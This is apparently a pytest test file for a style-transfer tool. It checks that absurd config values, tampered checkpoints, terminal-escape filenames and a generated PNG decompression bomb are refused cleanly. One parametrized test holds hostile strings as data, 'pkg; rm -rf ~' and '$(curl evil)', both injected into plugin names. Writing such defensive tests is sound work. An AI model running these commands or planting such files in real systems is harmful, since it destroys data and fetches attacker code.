"""Every number a run or a checkpoint declares is bounded before any work (core/components/config.py BOUNDS):
from flags, --set, config files and checkpoint metadata alike, an absurd value is one line, not a hang, an
allocation traceback or an OverflowError. Nesting and huge integers in TOML and JSON too."""

from __future__ import annotations

import json
import time
from pathlib import Path

import pytest
from cli_results import clean_error as one_line
from cli_results import invoke

from stylezoo.core.components.config import BOUNDS, MAX_DEPTH, check_bounds
from stylezoo.core.components.registry import Registry
from stylezoo.core.errors import CheckpointError, ConfigError
from stylezoo.core.files import checkpoint as ckpt
from stylezoo.core.runs.runconfig import resolve
from stylezoo.core.training.engine import Trainer
from stylezoo.core.use.loading import load_generator

SAMPLES = Path(__file__).resolve().parent.parent / "data" / "samples"
TINY = {"size": 32, "batch": 2, "steps": 1, "sample_every": 0, "ckpt_every": 1, "log_every": 1, "num_samples": 2}


@pytest.mark.parametrize("args, field, bound", [
    (["--batch", "1000000000"], "train.batch", "at most 65536"),
    (["--size", "100000"], "train.size", "at most 8192"),
    (["--steps", str(10**12)], "train.steps", "at most 1000000000"),
    (["--set", "gen.n_res=100000"], "n_res", "at most 256"),
    (["--set", "gen.channels=10000000"], "channels", "at most 8192"),
    (["--set", "train.d_steps=100000"], "train.d_steps", "at most 100"),
    (["--set", "train.seed=-1"], "train.seed", "a seed is 0 or more"),
    (["--set", f"train.seed={2**48}"], "train.seed", f"at most {2**48 - 1}"),
    (["--set", "data.zoom=1e9"], "data.zoom", "at most 16"),
])
def test_numbers_past_their_bounds_are_one_line_before_any_work(args: list[str], field: str, bound: str) -> None:
    t0 = time.perf_counter()
    one_line(invoke("run", *args, "--dry-run"), field, bound)
    assert time.perf_counter() - t0 < 30  # refused, not built (--batch 1e9 --dry-run hung with growing memory)


def test_the_largest_seed_allowed_gives_its_own_run() -> None:
    """Seeds use their low 48 bits: the bound keeps every accepted seed distinct."""
    from stylezoo.core.files.data import _seed

    top = BOUNDS["seed"]
    assert _seed(int(top), 1) != _seed(0, 1) and _seed(int(top) - 1, 1) != _seed(int(top), 1)
    check_bounds("seed", int(top), "train.seed")
    with pytest.raises(ConfigError):
        check_bounds("seed", int(top) + 1, "train.seed")


def test_a_config_file_nested_deep_or_with_a_huge_integer_is_one_line(tmp_path: Path) -> None:
    deep = tmp_path / "deep.toml"
    deep.write_text("a = " + "[" * 5000 + "]" * 5000 + "\n")
    one_line(invoke("run", "--config", deep, "--dry-run"), "nested too deeply")
    shallow_but_over = tmp_path / "over.toml"
    shallow_but_over.write_text("a = " + "[" * (MAX_DEPTH + 2) + "]" * (MAX_DEPTH + 2) + "\n")
    one_line(invoke("run", "--config", shallow_but_over, "--dry-run"), "nested too deeply")
    big = tmp_path / "big.toml"
    big.write_text("[train]\nsteps = " + "9" * 5000 + "\n")
    one_line(invoke("run", "--config", big, "--dry-run"), "not valid TOML")
    large = tmp_path / "large.toml"
    large.write_text("[train]\nbatch = 99999999999\n")
    one_line(invoke("run", "--config", large, "--dry-run"), "train.batch", "at most 65536")


@pytest.fixture(scope="module")
def run_dir(tmp_path_factory: pytest.TempPathFactory) -> Path:
    reg = Registry()
    out = tmp_path_factory.mktemp("run")
    rc = resolve(reg, cli={"gen": "encdec", "disc": "patch", "feat": "", "gp": "none", "train": TINY,
                           "set": {"gen": {"channels": 8, "n_res": 1}, "disc": {"n_layers": 2, "channels": 8}},
                           "data": {"content": str(SAMPLES / "content"), "style": str(SAMPLES / "style")}},
                 losses=["tv"])
    Trainer(rc, out, registry=reg).fit()
    return out


def _hostile(run_dir: Path, tmp_path: Path, edit: str) -> Path:
    tensors, meta = ckpt.load(run_dir / "last.safetensors")
    meta = {k: v for k, v in meta.items() if k != "format"}
    out = tmp_path / "run"
    out.mkdir()
    if edit == "deep json":  # written raw: json.dumps itself recurses on such a value
        path = out / "last.safetensors"
        ckpt.save(path, tensors, meta)
        from safetensors.torch import save_file
        raw = json.dumps(meta)
        raw = raw[:-1] + ', "junk": ' + "[" * 20000 + "]" * 20000 + "}"
        save_file({k: v.contiguous() for k, v in tensors.items()}, str(path), {ckpt.META_KEY: raw})
        return out
    gen = meta["configs"]["gen"]
    if edit == "a million blocks":
        gen["n_res"] = 10**6
    elif edit == "channels in the millions":
        gen["channels"] = 5 * 10**6
    elif edit == "a 5000-digit number":
        path = out / "last.safetensors"
        from safetensors.torch import save_file
        raw = json.dumps(meta).replace('"n_res": 1', '"n_res": ' + "9" * 5000)
        save_file({k: v.contiguous() for k, v in tensors.items()}, str(path), {ckpt.META_KEY: raw})
        return out
    meta["run"]["set"]["gen"] = dict(gen)
    ckpt.save(out / "last.safetensors", tensors, meta)
    return out


@pytest.mark.parametrize("edit", ["a million blocks", "channels in the millions", "a 5000-digit number", "deep json"])
def test_a_hostile_checkpoint_is_refused_before_anything_is_built(run_dir: Path, tmp_path: Path, edit: str) -> None:
    bad = _hostile(run_dir, tmp_path, edit)
    t0 = time.perf_counter()
    with pytest.raises((CheckpointError, ConfigError)) as e:
        load_generator(bad)
    assert "\n" not in str(e.value)
    for args in (("stylize", bad, SAMPLES / "content", "-o", tmp_path / "out"),
                 ("export", bad, "-o", tmp_path / "m.onnx"),
                 ("eval", bad, "--num", "2"), ("run", "--resume", bad, "--quiet")):
        one_line(invoke(*args))
    assert time.perf_counter() - t0 < 60, "a hostile config must be refused, not built"


# ------------------------------------------------------------------------------------------ hostile text
@pytest.mark.parametrize("dist, hint", [
    ("evil-plugin", "pip install evil-plugin"),
    ("https://evil.example/x.whl", None),
    ("pkg; rm -rf ~", None),
    ("a b", None),
    ("$(curl evil)", None),
])
def test_install_hints_come_only_from_well_formed_names(dist: str, hint: str | None) -> None:
    meta = {"plugins": {"gen/ghost": dist}, "versions": {"stylezoo": "0.1.0", "torch": "2", dist: "1"}}
    got = ckpt.plugin_hint(meta, "gen/ghost")
    assert got == (dist if hint else None)
    err = ckpt.missing_component(Path("x.safetensors"), "gen/ghost", got, Registry(entry_points=False))
    assert (hint in str(err)) if hint else ("pip install" not in str(err) and dist not in str(err))


def test_control_characters_from_files_and_metadata_are_escaped_in_messages(tmp_path: Path) -> None:
    from stylezoo.core.cli.messages import printable

    assert printable("photo\x1b[2J\rname\n.png") == "photo\\x1b[2J\\rname\\n.png"
    nasty = tmp_path / "evil\x1b[31mred\rname.safetensors"
    nasty.write_bytes(b"not a checkpoint")
    r = invoke("stylize", nasty, SAMPLES / "content", "-o", tmp_path / "out")
    line = one_line(r)
    assert "\x1b" not in r.output and "\r" not in r.output and "\\x1b[31mred\\rname" in line


def test_a_checkpoint_from_a_newer_format_names_the_version_that_reads_it(run_dir: Path, tmp_path: Path) -> None:
    tensors, meta = ckpt.load(run_dir / "last.safetensors")
    out = tmp_path / "future.safetensors"
    from safetensors.torch import save_file
    save_file({k: v.contiguous() for k, v in tensors.items()}, str(out),
              {ckpt.META_KEY: json.dumps({**meta, "format": ckpt.FORMAT_VERSION + 1})})
    with pytest.raises(CheckpointError, match=f"checkpoint format {ckpt.FORMAT_VERSION + 1}, which a newer stylezoo "
                                              f"wrote; this one reads format {ckpt.FORMAT_VERSION}: upgrade"):
        ckpt.read_meta(out)
    one_line(invoke("stylize", out, SAMPLES / "content", "-o", tmp_path / "o"), "upgrade stylezoo")


def _bomb_png(path: Path, side: int = 100_000) -> None:
    """A PNG of a few bytes that declares side x side pixels."""
    import struct
    import zlib

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    path.write_bytes(b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 2, 0, 0, 0))
                     + chunk(b"IDAT", zlib.compress(b"\x00" * 10)) + chunk(b"IEND", b""))


def test_a_decompression_bomb_in_a_stylize_folder_is_skipped_with_a_warning(run_dir: Path, tmp_path: Path) -> None:
    """The output planner opened it to read its EXIF mark and raised PIL's DecompressionBombError."""
    from PIL import Image

    folder = tmp_path / "in"
    folder.mkdir()
    _bomb_png(folder / "bomb.png")
    Image.new("RGB", (40, 40), (200, 10, 10)).save(folder / "ok.png")
    r = invoke("stylize", run_dir, folder, "-o", tmp_path / "out")
    assert r.exit_code == 0 and "Traceback" not in r.output, r.output
    assert "skipped" in r.output and "bomb.png" in r.output and "decompression bomb" in r.output
    assert [p.name for p in (tmp_path / "out").iterdir()] == ["ok.png"]


def test_a_print_sized_photo_is_stylized_in_blended_tiles() -> None:
    """Over TILE_ABOVE pixels the Stylizer runs overlapping tiles: a pixel-wise generator gives exactly the
    whole-image result, a convolutional one the same away from the borders of its receptive field."""
    import torch

    from stylezoo.core.use.inputs import tiled
    from stylezoo.core.use.loading import LoadedGenerator
    from stylezoo.core.use.stylizer import Stylizer

    class Pointwise(torch.nn.Module):
        family, size_multiple = "image", 4

        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return torch.tanh(2 * x - 0.1)

    st = Stylizer(LoadedGenerator(Pointwise(), "gen/pointwise", "image", {}, Path("-")), precision="fp32")
    x = torch.rand(1, 3, 300, 410) * 2 - 1
    whole = st.forward(x)
    calls: list[tuple[int, ...]] = []
    run = st._whole
    st._whole = lambda part: (calls.append(tuple(part.shape)), run(part))[1]  # type: ignore[method-assign]
    st.tile_above, st.tile = 100 * 100, 128
    tiles = st.forward(x)
    assert len(calls) > 4 and all(c[-1] <= 128 and c[-2] <= 128 for c in calls)  # never the whole photo at once
    torch.testing.assert_close(tiles, whole, rtol=0, atol=1e-6)
    conv = torch.nn.Conv2d(3, 3, 3, padding=1)
    with torch.no_grad():
        ref = torch.tanh(conv(x))
        out = tiled(lambda p: torch.tanh(conv(p)), x, tile=128)
    assert (out - ref).abs().max() < 0.05  # blended where tiles meet; a 3x3 conv differs only at their edges


def test_a_run_that_cannot_fit_in_memory_says_what_it_needs(monkeypatch: pytest.MonkeyPatch) -> None:
    """Estimated from the composition on the meta device (nothing allocated), before any data is read."""
    import torch

    from stylezoo.core.training import memory

    t0 = time.perf_counter()
    line = one_line(invoke("run", "--batch", "4096", "--size", "2048", "--dry-run"), "needs about", "GiB",
                    "lower --batch or --size")
    assert time.perf_counter() - t0 < 60 and "--batch 4096" in line
    monkeypatch.setattr(memory, "available_bytes", lambda device: 10 * 1024**3)
    memory.check_memory(5 * 1024**3, torch.device("cpu"), 8, 256)  # fits with its margin: no error
    with pytest.raises(ConfigError, match=r"needs about 9\.0 GiB .* has 10\.0 GiB free"):
        memory.check_memory(9 * 1024**3, torch.device("cpu"), 8, 256)
    monkeypatch.setattr(memory, "available_bytes", lambda device: None)
    memory.check_memory(10**15, torch.device("cpu"), 8, 256)  # unknown free memory: left to try


def test_the_memory_estimate_grows_with_batch_and_size_and_skips_what_meta_cannot_run() -> None:
    import torch

    from stylezoo.core.training.assembly import build_components
    from stylezoo.core.training.memory import activation_bytes, step_memory

    reg = Registry()
    comps = build_components(reg, resolve(reg, recipe="default"))
    small, big, wide = (step_memory(comps, "image", b, s) for b, s in ((2, 64), (8, 64), (2, 128)))
    assert small and big and wide and big > small
    # activations grow with batch x size^2: 4x the batch and 2x the side cost the same on top of the weights
    assert wide == pytest.approx(big, rel=0.05)
    assert comps.gen.training  # the estimate ran on a copy: the run's modules are untouched
    assert next(comps.gen.parameters()).device.type == "cpu"

    class NeedsData(torch.nn.Module):
        def forward(self, x: torch.Tensor) -> torch.Tensor:
            return x * float(x.sum())  # reads a value: impossible on meta

    assert activation_bytes(NeedsData(), torch.zeros(2, 3, 8, 8)) is None
